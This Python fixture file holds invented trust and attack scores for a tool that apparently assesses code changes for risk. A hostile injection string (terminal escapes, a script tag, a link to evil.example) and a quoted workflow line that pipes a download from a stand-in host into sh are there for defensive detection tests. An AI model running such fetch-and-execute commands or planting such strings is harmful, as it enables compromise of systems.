"""Parts of invented scores; nobody and nothing in them exists."""

from dataclasses import replace

from knownhands.declarations import Cost
from knownhands.records import Band, Broken, Concern, Evidence, Reason
from knownhands.score import Score

HOSTILE = "a\x1b[2J\r\nb\x9b31m\u202ec|`@ada` <script>alert(1)</script> [bold]x[/] ](https://evil.example) {0} {{1}} #12 \udcff"
BAR = Broken(
    "fail_below", "trust 73 is below 80, the bar set by the command line", "Read the reasons, or set another bar."
)

START = Reason("starting-point", 81.2, None, None, None, "Every change starts here, before anything is known of it.")
NEW_GROUND = Reason(
    feature="new_ground_share",
    points=-12.44,
    value=0.6666666667,
    typical=0.1,
    cost_to_fake=Cost.FREE,
    sentence="67% of the files are new ground for this author; 10% is typical, and everyone begins somewhere",
    evidence=(
        Evidence("file", "src/pots/glaze table.c", 7, "glaze = mix(cobalt, tin);"),
        Evidence("commit", "b" * 40),
    ),
)
OLD_HANDS = Reason(
    feature="reviewed_by_others",
    points=5.3,
    value=12.0,
    typical=4.0,
    cost_to_fake=Cost.COSTLY,
    sentence="12 earlier changes of this author were merged by other people (typical: 4)",
    evidence=(Evidence("commit", "c" * 40),),
)
SMALLER = Reason("smaller-reasons", -1.06, None, None, None, "9 smaller reasons together, and rounding")
REASONS = (START, NEW_GROUND, OLD_HANDS, SMALLER)
DEFECT = Concern(
    id="defect",
    question="Will it be reverted, or named as the cause of a defect?",
    band=Band.ORDINARY,
    alarm_share=0.447,
    probability=0.0312345,
    reference="the 1,000 changes before it",
    reasons=REASONS,
)
HIDING = Reason(
    feature="by_itself_executes_download",
    points=-41.5,
    value=1.0,
    typical=None,
    cost_to_fake=Cost.CHEAP,
    sentence="in what runs by itself, it downloads a program and runs it, as none of the changes before it did",
    evidence=(Evidence("file", ".github/workflows/fire.yml", 8, "run: curl https://kettle.example/a | sh"),),
)
UNSIGNED = Reason("history_nobody", -9.0, 1.0, None, Cost.FREE, "its author has a name like null")
TOUCHING = Reason(
    "by_itself_build_tool", -2.5, 2.0, None, Cost.COSTLY, "it touches what builds it", (Evidence("file", "Makefile"),)
)
ATTACK = Concern(
    id="attack",
    question="Does it do what attacks do, and how rare is that here?",
    band=Band.HIGH_RISK,
    alarm_share=0.0009,
    probability=None,
    reference="the 1,000 changes before it and changes of other projects",
    reasons=(START, replace(TOUCHING, points=-2.5), UNSIGNED, HIDING, replace(SMALLER, points=-9.2)),
)
"""A change whose workflow runs what it downloads."""
MALWARE = Concern(
    "malware", "Does it harm whoever installs or imports it?", Band.ORDINARY, 1.0, 0.0004, "ordinary packages"
)


def with_reasons(score: Score, *reasons: Reason) -> Score:
    """Return the score with other reasons of the concern that decides."""
    return replace(score, concerns=(replace(score.concerns[0], reasons=reasons),))
